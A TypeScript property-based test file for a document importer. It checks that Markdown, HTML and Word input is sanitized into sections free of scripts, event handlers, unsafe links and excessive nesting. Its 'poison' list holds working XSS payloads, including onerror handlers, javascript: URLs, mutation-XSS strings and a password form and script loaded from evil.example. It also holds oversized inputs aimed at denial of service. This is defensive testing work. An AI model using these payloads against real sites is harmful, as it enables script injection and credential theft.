import fc from 'fast-check';
import type { Element, Root } from 'hast';
import type { Nodes } from 'mdast';
import rehypeParse from 'rehype-parse';
import remarkGfm from 'remark-gfm';
import remarkParse from 'remark-parse';
import { unified } from 'unified';
import { CodedError } from '../../src/errors';
import { plainText, renderHtml } from '../../src/guides';
import type { ImportedDocument } from '../../src/publishing';
import { paragraph, word } from '../support/hostile-files';
import { readInProcess } from '../support/read-in-process';

const htmlParser = unified().use(rehypeParse, { fragment: true });
const markdownParser = unified().use(remarkParse).use(remarkGfm);

/** What an attacker writes, whole and in pieces. */
const poison = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>alert(2)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href=" java\nscript:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<a href="https://good.example" onclick="alert(1)" style="position:fixed">good</a>',
  '<style>*{display:none}</style>',
  '<div style="background:url(javascript:alert(1))">styled</div>',
  '<form action="https://evil.example"><input name=password></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<td colspan=1000000000>wide</td>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD4=)',
  '[click](vbscript:msgbox)',
  '[click](<javascript:alert(1)>)',
  '[click][x]\n\n[x]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '![p](javascript:alert(1))',
  '![p](https://tracker.example/pixel.png)',
  '[a](section:--3) [b](section:../../x) [c](section:good-id)',
  '[^1]\n\n[^1]: <script>alert(1)</script>',
  '| a |\n| - |\n| <script>alert(1)</script> |',
  '```html\n<script>alert(1)</script>\n```',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\<script>alert(1)\\</script>',
  '> > > > > > > > > > > > quoted',
  '- - - - - - - - - - - - - listed',
  '# Heading <script>alert(1)</script>',
  '#### Deep [x](javascript:alert(1))',
  '\u202egpj.exe\u202c',
  '\u0000\u0008\ue000\ue005',
  'http://example.org/"onmouseover="alert(1)',
  'https://example.org/)(javascript:alert(1)',
  '<https://example.org/"><script>alert(1)</script>>',
];
const piece = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...poison) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 20 }) },
  fc.constantFrom('\n', '\n\n', ' ', '\n# H\n\n', '*', '_', '`', '|', '<', '>', '[', '](', ')'),
);
const mixture = fc.array(piece, { minLength: 1, maxLength: 12 }).map((pieces) => pieces.join('').replaceAll('\0', ''));

describe('imported texts', () => {
  it.each(poison)('hold nothing dangerous of %j', async (text) => {
    for (const document of await readEverywhere(text)) expectHarmless(document);
  });

  it('hold nothing dangerous of any mixture', async () => {
    await fc.assert(
      fc.asyncProperty(mixture, async (text) => {
        for (const document of await readEverywhere(text)) expectHarmless(document);
      }),
      { numRuns: 120 },
    );
  });

  it('say the same when what was written is read again', async () => {
    await fc.assert(
      fc.asyncProperty(mixture, async (text) => {
        for (const document of await readEverywhere(text)) {
          for (const { body } of document.sections) {
            const known = body.replace(/section:--/g, 'section:part-');
            const again = await readAll('again.md', `# Only heading\n\n${known}`);
            const words = again.map(({ sections }) => sections.map((section) => plainText(section.body)).join('\n\n'));
            expect(words).toEqual([plainText(known)]);
          }
        }
      }),
      { numRuns: 60 },
    );
  });

  it.each([
    ['a table of 3,000 columns', `| ${'a | '.repeat(3_000)}\n| ${'- | '.repeat(3_000)}\n| ${'b | '.repeat(3_000)}`],
    ['a table of 2,500 rows', `| a | b |\n| - | - |\n${'| cell one | cell two |\n'.repeat(2_500)}`],
    ['200 quotes in each other', `${'> '.repeat(200)}deep`],
    ['200 lists in each other', Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i)}- level`).join('\n')],
    ['2,000 divisions in each other', `${'<div>'.repeat(2_000)}deep${'</div>'.repeat(2_000)}`],
    ['a paragraph of 400 kB', 'word '.repeat(80_000)],
    ['one word of 400 kB', 'x'.repeat(400_000)],
  ])('keep sections small and shallow: %s', async (_what, text) => {
    for (const document of await readAll('large.md', text)) {
      expectHarmless(document);
      for (const { body } of document.sections) {
        expect(Buffer.byteLength(body)).toBeLessThanOrEqual(110_000);
        expect(depthOf(markdownParser.parse(body))).toBeLessThan(40);
      }
    }
  });
});

/** The same text as Markdown, as a web page, and as the words of a Word file. */
async function readEverywhere(text: string): Promise<ImportedDocument[]> {
  const escaped = text
    .replace(/[&<>]/g, (sign) => `&#${sign.charCodeAt(0)};`)
    .replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '');
  const read = await Promise.all([
    readAll('a.md', text),
    readAll('a.html', `<!doctype html><body>${text}`),
    readAll('a.docx', word({ body: paragraph(escaped) })),
  ]);
  return read.flat();
}

/** Nothing where there is nothing to read: a refusal is harmless too. */
async function readAll(name: string, content: string | Buffer): Promise<ImportedDocument[]> {
  try {
    return [await readInProcess(name, content)];
  } catch (error) {
    if (error instanceof CodedError) return [];
    throw error;
  }
}

const shownTags =
  /^(?:a|p|strong|em|del|code|pre|br|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|sup|section|h2|input)$/;

function expectHarmless({ title, sections }: ImportedDocument): void {
  for (const { heading, body, depth } of [...sections, { heading: title, body: 'x', depth: 1 }]) {
    expect(`${heading}${body}`).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202a-\u202e\u2066-\u2069\ue000-\ue00f]/);
    expect(heading).not.toBe('');
    expect(body).toBe(body.trim());
    expect(depth).toBeGreaterThanOrEqual(1);
    for (const node of markdownNodes(markdownParser.parse(body))) {
      expect(['html', 'image', 'imageReference', 'heading', 'definition', 'linkReference']).not.toContain(node.type);
      if (node.type === 'link') expect(node.url).toMatch(/^(?:https?:\/\/|mailto:|section:)/i);
    }
    const html = renderHtml(body, { linkTo: (section) => `/s/${section}`, idPrefix: 's', language: 'en' });
    for (const { tagName, properties } of elements(htmlParser.parse(html))) {
      expect(tagName).toMatch(shownTags);
      expect(Object.keys(properties).filter((name) => /^on|^style$|^src/i.test(name))).toEqual([]);
      const { href } = properties;
      if (href !== undefined) expect(String(href)).toMatch(/^(?:https?:\/\/|mailto:|\/s\/|#)/i);
    }
  }
}

function markdownNodes(node: Nodes): Nodes[] {
  return [node, ...('children' in node ? node.children.flatMap((child) => markdownNodes(child)) : [])];
}

function depthOf(node: Nodes): number {
  return 'children' in node ? 1 + Math.max(0, ...node.children.map((child) => depthOf(child))) : 1;
}

function elements(node: Root | Element): Element[] {
  return node.children.flatMap((child) => (child.type === 'element' ? [child, ...elements(child)] : []));
}
